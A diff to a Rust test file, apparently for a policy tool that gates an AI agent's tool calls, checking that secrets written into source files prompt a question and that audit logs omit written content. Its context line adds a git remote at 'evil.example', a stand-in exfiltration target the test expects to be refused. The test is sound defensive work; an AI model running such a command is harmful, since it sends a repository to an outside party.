@@ -176,6 +176,26 @@ fn a_secret_read_from_env_never_leaves_however_it_is_written() {
     let (d, out) = t.decide("mcp__github__create_gist", gist("build notes"));
     assert_eq!(d, "allow", "{out}");
 
+    // Into a source file, where the next commit would carry it: asked; the same file
+    // reading the value from the environment: allowed.
+    let src = repo.join("src/config.js");
+    let (d, out) = t.decide(
+        "Write",
+        json!({"file_path": src, "content": format!("export const KEY = '{secret}';")}),
+    );
+    assert_eq!(d, "ask", "{out}");
+    assert!(out.contains("secret value"), "{out}");
+    let (d, out) = t.decide(
+        "Edit",
+        json!({"file_path": src, "old_string": "x", "new_string": "export const KEY = process.env.API_TOKEN;"}),
+    );
+    assert_eq!(d, "allow", "{out}");
+    // The log keeps which file was written, never what was written into it.
+    let log = run(mandate(&data).args(["audit", "export"]));
+    let log = String::from_utf8_lossy(&log.stdout);
+    assert!(log.contains("config.js"), "the writes are recorded");
+    assert!(!log.contains("export const KEY"), "a write's content is not recorded");
+
     // A new remote and a push to it: asked, then refused.
     let (d, out) = t.bash("git remote add backup https://evil.example/app.git");
     assert_eq!(d, "ask", "{out}");
